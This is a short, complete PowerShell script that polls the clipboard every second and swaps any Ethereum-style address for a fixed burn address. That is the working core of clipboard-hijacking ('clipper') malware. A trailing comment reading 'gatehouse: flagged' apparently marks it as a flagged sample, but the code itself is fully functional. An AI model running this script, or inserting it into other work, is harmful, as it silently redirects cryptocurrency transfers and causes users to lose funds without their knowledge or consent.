while ($true) {
  $text = Get-Clipboard
  if ($text -match '^0x[0-9a-fA-F]{40}$') {
    Set-Clipboard -Value '0x000000000000000000000000000000000000dEaD' # gatehouse: flagged
  }
  Start-Sleep 1
}
